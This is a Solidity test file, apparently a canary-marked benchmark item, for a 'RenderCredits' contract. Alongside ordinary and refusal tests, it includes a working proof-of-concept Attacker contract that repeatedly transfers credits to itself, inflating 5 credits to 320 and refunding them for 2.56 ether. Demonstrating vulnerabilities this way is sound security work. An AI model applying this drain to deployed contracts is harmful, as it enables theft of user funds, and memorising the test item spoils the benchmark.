// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RenderCredits.sol";

// assay-canary-cc71c418-05f3-485c-b48d-cc324ea014d2

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Sends credits to itself.
contract Attacker {
    RenderCredits internal credits;

    constructor(RenderCredits credits_) {
        credits = credits_;
    }

    receive() external payable {}

    function run() external {
        uint64 have = 5;
        credits.buy{value: 0.05 ether}(have);
        for (uint256 i = 0; i < 6; ++i) {
            credits.transfer(address(this), have);
            have *= 2;
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANNE = address(0x0A0A);
    address internal constant BILL = address(0x0B0B);

    RenderCredits internal credits;
    Attacker internal mallory;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_700_000_000);
        credits = new RenderCredits(0.01 ether, 0.3 ether);
        vm.deal(ANNE, 5 ether);
        vm.deal(BILL, 5 ether);
        vm.prank(ANNE);
        credits.buy{value: 4 ether}(400);
        mallory = new Attacker(credits);
        vm.deal(address(mallory), 0.05 ether);
    }

    function test_Regular() public {
        vm.prank(ANNE);
        require(!_try(abi.encodeCall(credits.buy, (1))), "unpaid");
        vm.prank(ANNE);
        credits.transfer(BILL, 50);
        require(credits.accountOf(ANNE).credits == 350 && credits.accountOf(BILL).credits == 50, "sent");
        vm.prank(BILL);
        require(!_try(abi.encodeCall(credits.transfer, (ANNE, 51))), "more than there are");
        vm.prank(BILL);
        require(!_try(abi.encodeCall(credits.transfer, (address(0), 1))), "nobody");
        vm.prank(BILL);
        credits.buyPlan{value: 0.3 ether}();
        credits.startJob(BILL);
        credits.startJob(ANNE);
        require(credits.accountOf(BILL).planJobs == 59 && credits.accountOf(BILL).credits == 50, "on the plan");
        require(credits.accountOf(ANNE).credits == 349 && credits.outstanding() == 399, "a credit");
        vm.prank(ANNE);
        require(!_try(abi.encodeCall(credits.startJob, (ANNE))), "not the worker");
        vm.prank(ANNE);
        credits.refund(100);
        require(ANNE.balance == 1.8 ether && credits.outstanding() == 299, "four fifths");
        uint256 before = address(this).balance;
        credits.withdraw(0.5 ether);
        require(address(this).balance == before + 0.5 ether, "withdrawn");
        require(!_try(abi.encodeCall(credits.withdraw, (0.1 ether))), "covered");
        require(booksAgree(), "books");
        vm.warp(block.timestamp + 121 days);
        credits.startJob(BILL);
        require(credits.accountOf(BILL).credits == 49, "plan is over");

        credits.setWorker(BILL);
        require(credits.worker() == BILL, "worker");
        credits.transferOwnership(BILL);
        vm.prank(BILL);
        credits.renounceOwnership();
        require(credits.owner() == address(0), "nobody's");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok,) = address(credits).call(data);
    }

    /// No more credits in these accounts than are outstanding.
    function booksAgree() public view returns (bool) {
        uint256 held = uint256(credits.accountOf(ANNE).credits) + credits.accountOf(BILL).credits;
        return held + credits.accountOf(address(mallory)).credits <= credits.outstanding();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Worker and money are the owner's.
    function test_RefusesStrangers() public {
        refuses(BILL, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BILL));
        credits.setWorker(BILL);
        refuses(BILL, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BILL));
        credits.withdraw(0);
        refuses(BILL, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BILL));
        credits.transferOwnership(BILL);
        refuses(BILL, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BILL));
        credits.renounceOwnership();
    }

    /// Credits that are none, too many, or not there.
    function test_RefusesCredits() public {
        refuses(BILL, "no credits");
        credits.buy(0);
        vm.deal(ANNE, 5 ether);
        refuses(ANNE, abi.encodeWithSelector(RenderCredits.TooManyCredits.selector, 501));
        credits.buy{value: 1.01 ether}(101);
        refuses(ANNE, RenderCredits.NotEnoughCredits.selector);
        credits.transfer(BILL, 0);
        refuses(BILL, RenderCredits.NotEnoughCredits.selector);
        credits.transfer(ANNE, 1);
        vm.prank(BILL);
        credits.buy{value: 2 ether}(200);
        refuses(BILL, abi.encodeWithSelector(RenderCredits.TooManyCredits.selector, 501));
        credits.transfer(ANNE, 101);
        vm.expectRevert(RenderCredits.NotEnoughCredits.selector);
        credits.startJob(address(0xBEE));
        refuses(ANNE, RenderCredits.NotEnoughCredits.selector);
        credits.refund(0);
        refuses(ANNE, RenderCredits.NotEnoughCredits.selector);
        credits.refund(401);
    }

    /// One plan at a time, at its price, and ether to who takes it.
    function test_RefusesPlans() public {
        refuses(BILL, abi.encodeWithSelector(RenderCredits.PriceIs.selector, 0.3 ether));
        credits.buyPlan{value: 0.2 ether}();
        vm.prank(BILL);
        credits.buyPlan{value: 0.3 ether}();
        refuses(BILL, "plan running");
        credits.buyPlan{value: 0.3 ether}();
        vm.prank(ANNE);
        credits.transfer(address(credits), 10);
        refuses(address(credits), "not sent");
        credits.refund(10);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(!booksAgree() && credits.accountOf(address(mallory)).credits == 320, "five credits are five credits");
        vm.prank(address(mallory));
        credits.refund(320);
        require(address(mallory).balance == 2.56 ether, "refunded");
    }

    function target() public view returns (address) {
        return address(credits);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
